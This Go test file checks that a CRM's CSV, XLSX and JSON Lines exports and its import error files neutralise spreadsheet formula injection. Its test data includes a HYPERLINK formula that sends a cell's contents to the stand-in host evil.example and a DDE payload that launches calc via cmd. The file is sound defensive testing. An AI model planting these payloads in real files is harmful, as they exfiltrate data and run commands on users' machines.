package exchange_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"os"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/meridian-crm/meridian/internal/exchange"
	"github.com/meridian-crm/meridian/internal/query"
	"github.com/meridian-crm/meridian/internal/records"
)

// formulaNames are account names a spreadsheet would run as formulas, and values that look
// like neutralised ones.
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+86 21 5555 0000", "-minus", "@SUM(A1:A9)",
	"\tTabbed", "\rReturn", "'=quoted already", "''+twice", "'plain quote", "plain",
}

// createFormulaAccounts creates one account per formulaNames entry, the first with a revenue
// of -5 (a negative number is data).
func (e *env) createFormulaAccounts() {
	e.t.Helper()
	rows := make([]records.Input, len(formulaNames))
	for i, n := range formulaNames {
		rows[i] = records.Input{"name": n, "city": n, "description": n}
	}
	rows[0]["revenue"] = json.Number("-5")
	if _, bad, err := e.svc.CreateMany(e.ctx, "account", rows); err != nil || len(bad) > 0 {
		e.t.Fatalf("create: %v %v", err, bad)
	}
}

// TestExportNeutralisesFormulas: in a CSV export, a text cell beginning with =, +, -, @, a tab
// or a carriage return (or quotes before one of those) gets a single quote in front and is
// quoted; numbers (a revenue of -5) are written as they are; the stored values do not change.
// XLSX exports write text as string cells (never formulas), JSON Lines as JSON strings: both
// keep the values as they are.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	e.createFormulaAccounts()
	o := &query.Options{}
	o.Select, _ = query.ParseSelect("name,revenue,city")
	o.OrderBy, _ = query.ParseOrderBy("created_at")
	var buf bytes.Buffer
	if _, err := exchange.Export(e.ctx, e.svc, "account", o, exchange.CSV, &buf, nil); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	for _, want := range []string{
		`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5.0000,`, `"'+86 21 5555 0000"`, `"'-minus"`, `"'@SUM(A1:A9)"`,
		"\"'\tTabbed\"", "\"'\rReturn\"", `"''=quoted already"`, `"'''+twice"`, ",'plain quote,", ",plain,",
	} {
		if !strings.Contains(raw, want) {
			t.Errorf("export lacks %q:\n%s", want, raw)
		}
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(raw, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs[1:] {
		name := r[2] // id, version, then the selected columns
		if name != "" && formulaStartsCell(name) {
			t.Errorf("a cell a spreadsheet runs: %q", name)
		}
	}
	// The records keep their values.
	for i, r := range e.all(e.ctx, "account", o) {
		if got := text(r.Get("name")); got != formulaNames[i] {
			t.Errorf("stored name %q, want %q", got, formulaNames[i])
		}
	}

	buf.Reset()
	if _, err := exchange.Export(e.ctx, e.svc, "account", o, exchange.XLSX, &buf, nil); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, _ := f.Open()
		sheet, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(sheet, []byte("<f>")) || bytes.Contains(sheet, []byte("<f ")) {
			t.Fatalf("the XLSX export holds a formula: %s", sheet)
		}
		if !bytes.Contains(sheet, []byte(`t="inlineStr"><is><t>=HYPERLINK(`)) {
			t.Fatalf("the XLSX export does not write the name as a string cell: %s", sheet)
		}
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := x.GetRows("Sheet1")
	if len(rows) != len(formulaNames)+1 || rows[1][2] != formulaNames[0] || rows[4][2] != formulaNames[3] {
		t.Fatalf("xlsx rows %q", rows)
	}

	buf.Reset()
	if _, err := exchange.Export(e.ctx, e.svc, "account", o, exchange.JSONL, &buf, nil); err != nil {
		t.Fatal(err)
	}
	var first map[string]any
	if err := json.Unmarshal(bytes.SplitN(buf.Bytes(), []byte("\n"), 2)[0], &first); err != nil || first["name"] != formulaNames[0] {
		t.Fatalf("jsonl %v %v", first, err)
	}
}

func formulaStartsCell(s string) bool { return strings.ContainsRune("=+-@\t\r", rune(s[0])) }

// TestImportRoundTripsNeutralisedExport: a CSV export with neutralised cells imports into
// another tenant with every value as stored (the added quote comes off, and only it: values
// that began with quotes keep theirs) — exactly for text attributes (description), trimmed for
// string ones (name, city), as imports always trim them.
func TestImportRoundTripsNeutralisedExport(t *testing.T) {
	e := newEnv(t)
	e.createFormulaAccounts()
	var buf bytes.Buffer
	if _, err := exchange.Export(e.ctx, e.svc, "account", &query.Options{}, exchange.CSV, &buf, nil); err != nil {
		t.Fatal(err)
	}
	other, _ := e.newTenant("other")
	s, _ := e.runIn(other, exchange.Request{Entity: "accounts", Path: e.file("export.csv", buf.Bytes())})
	wantCounts(t, s, int64(len(formulaNames)), 0, 0, 0)
	got := map[string]*records.Record{}
	for _, r := range e.all(other, "account", nil) {
		got[text(r.Get("description"))] = r
	}
	for _, n := range formulaNames {
		r := got[n]
		if r == nil {
			t.Fatalf("%q did not come back; descriptions %q", n, keys(got))
		}
		if name, city := text(r.Get("name")), text(r.Get("city")); name != strings.TrimSpace(n) || city != name {
			t.Errorf("name and city of %q are %q, %q", n, name, city)
		}
	}
	if v := text(got[formulaNames[0]].Get("revenue")); v != "-5.0000" {
		t.Errorf("revenue %q", v)
	}
}

func keys(m map[string]*records.Record) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// TestErrorFileNeutralisesFormulas: the error file holds the cells as uploaded, neutralised like
// an export — text always, a numeric column's cell unless it is a plain number — and importing
// the error file again reads the very cells that were uploaded.
func TestErrorFileNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	file := e.file("a.csv", csvBytes(',',
		[]string{"name", "revenue", "city", "=header"},
		[]string{`=cmd|' /C calc'!A0`, "=1+1", "@evil", "x"},
		[]string{"", "-5", "+x", "-y"},
	))
	s, _ := e.run(exchange.Request{Entity: "accounts", Path: file})
	wantCounts(t, s, 0, 0, 0, 2)
	raw, err := os.ReadFile(s.ErrorFile)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"'=cmd|' /C calc'!A0","'=1+1","'@evil",x,`, `"'=header"`, `,-5,"'+x","'-y",`} {
		if !bytes.Contains(raw, []byte(want)) {
			t.Errorf("error file lacks %q:\n%s", want, raw)
		}
	}
	first := errorRows(t, s.ErrorFile)
	again, _ := e.run(exchange.Request{Entity: "accounts", Path: e.file("again.csv", raw)})
	second := errorRows(t, again.ErrorFile)
	if len(first) != 2 || len(second) != 2 {
		t.Fatalf("error rows %v then %v", first, second)
	}
	for i := range first {
		for _, col := range []string{"name", "revenue", "city", "'=header", "_code"} {
			if first[i][col] != second[i][col] {
				t.Errorf("row %d %s: %q, then %q", i, col, first[i][col], second[i][col])
			}
		}
	}
	if first[0]["revenue"] != "'=1+1" || first[0]["_code"] != "invalid_type" || first[1]["_code"] != "required" {
		t.Fatalf("error rows %v", first)
	}
}
